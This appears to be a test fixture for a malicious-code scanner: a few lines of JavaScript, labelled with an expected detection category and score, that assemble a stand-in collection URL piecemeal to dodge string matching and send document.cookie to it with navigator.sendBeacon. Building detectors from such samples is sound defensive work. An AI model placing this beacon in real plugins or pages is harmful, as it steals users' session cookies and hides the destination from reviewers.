// expect: category=network min=75 context=plugin,package
// why: the destination URL is assembled in a forEach callback; the cookie is the payload.
const parts = ['https:', '', 'collect.example', 'q'];
let url = '';
parts.forEach((p, i) => {
  url += (i ? '/' : '') + p;
});

const beacon = navigator.sendBeacon.bind(navigator);
beacon(url, new Blob([document.cookie], { type: 'text/plain' }));
